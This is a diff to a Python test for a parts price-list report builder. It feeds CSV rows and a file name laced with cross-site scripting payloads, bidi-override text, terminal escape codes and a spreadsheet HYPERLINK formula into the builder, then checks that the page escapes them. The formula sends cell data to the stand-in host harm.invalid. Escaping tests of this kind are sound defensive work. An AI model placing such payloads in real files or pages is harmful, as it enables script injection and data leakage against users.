@@ -12,14 +12,17 @@ ROOT = Path(__file__).resolve().parents[3]
 # Confidence from which the page calls an offer sure.
 SURE = 0.9
 
-HOSTILE_HEADER = "Article no;Title;Maker no;Price EUR\n"
-HOSTILE_TITLES = (
-    "Recoil starter 168F 196cc 3 hole <img src=x onerror=\"globalThis.harm='image'\"> 118 mm PCD M6",
-    "Recoil starter 168F 196cc 3 hole </script><script>globalThis.harm='script'</script> 118 mm PCD",
-    "Recoil starter 170F 212cc \u202e3 hole gnicaps\u202c 118 mm PCD\u2066",
-    "Recoil starter 170F 212cc \x1b[31m\x1b]0;taken over\x07 3 hole red",
-    '=HYPERLINK("http://harm.invalid/?"&A1;"Recoil starter 168F 196cc")',
-    "Recoil starter 168F 196cc &lt;svg onload=alert(1)&gt; javascript:alert(2)",
+HOSTILE_HEADER = "Article no;Title;Brand;Maker no;Price EUR\n"
+IMAGE = "<img src=x onerror=\"globalThis.harm='image'\">"
+SCRIPT = "</script><script>globalThis.harm='script'</script>"
+# Number, title, brand, maker's number.
+HOSTILE_LINES = (
+    (IMAGE, f"Recoil starter 168F 196cc 3 hole {IMAGE} 118 mm PCD M6", "Halvor", "HK-101"),
+    (f"N-2{SCRIPT}", f"Recoil starter 168F 196cc 3 hole {SCRIPT} 118 mm PCD", SCRIPT, "HK-102"),
+    ("N-3", "Recoil starter 170F 212cc \u202e3 hole gnicaps\u202c 118 mm PCD\u2066", "Halvor\u202e", "HK-103\u200f"),
+    ("N-4", "Recoil starter 170F 212cc \x1b[31m\x1b]0;taken over\x07 3 hole red", "Halvor", "HK-104"),
+    ("N-5", '=HYPERLINK("http://harm.invalid/?"&A1;"Recoil starter 168F 196cc")', "Halvor", "HK-105"),
+    ("N-6", "Recoil starter 168F 196cc &lt;svg onload=alert(1)&gt; javascript:alert(2)", "Halvor", f"HK-106{IMAGE}"),
 )
 
 
@@ -60,14 +63,16 @@ def hostile_lists(context, check):
     with tempfile.TemporaryDirectory() as folder:
         lists, run = Path(folder) / "lists", Path(folder) / "run"
         lists.mkdir()
-        for name in ("north", "south"):
-            lines = [f"{name[0]}-{at};{quoted(title)};HK-10{at};12,50" for at, title in enumerate(HOSTILE_TITLES)]
+        # A file's name reaches the page as well.
+        for name in ("north", "<b onclick=alert(3)>south"):
+            lines = [";".join(map(quoted, line)) + ";12,50" for line in HOSTILE_LINES]
             (lists / f"{name}.csv").write_text(HOSTILE_HEADER + "\n".join(lines) + "\n", encoding="utf-8")
         samefit(context, "build", lists, "--out", run, "--quiet")
         words = [
-            {"find": "onerror=", "shown": "<img src=x onerror="},
-            {"find": "globalthis.harm='script'", "shown": "</script><script>"},
+            {"find": "onerror=", "shown": IMAGE},
+            {"find": "</script>", "shown": SCRIPT},
             {"find": "=hyperlink(", "shown": "=HYPERLINK("},
+            {"find": "onclick=", "shown": "<b onclick=alert(3)>south"},
         ]
         drive(context, check, "hostile.mjs", {"url": url(run / "report.html"), "words": words})
 
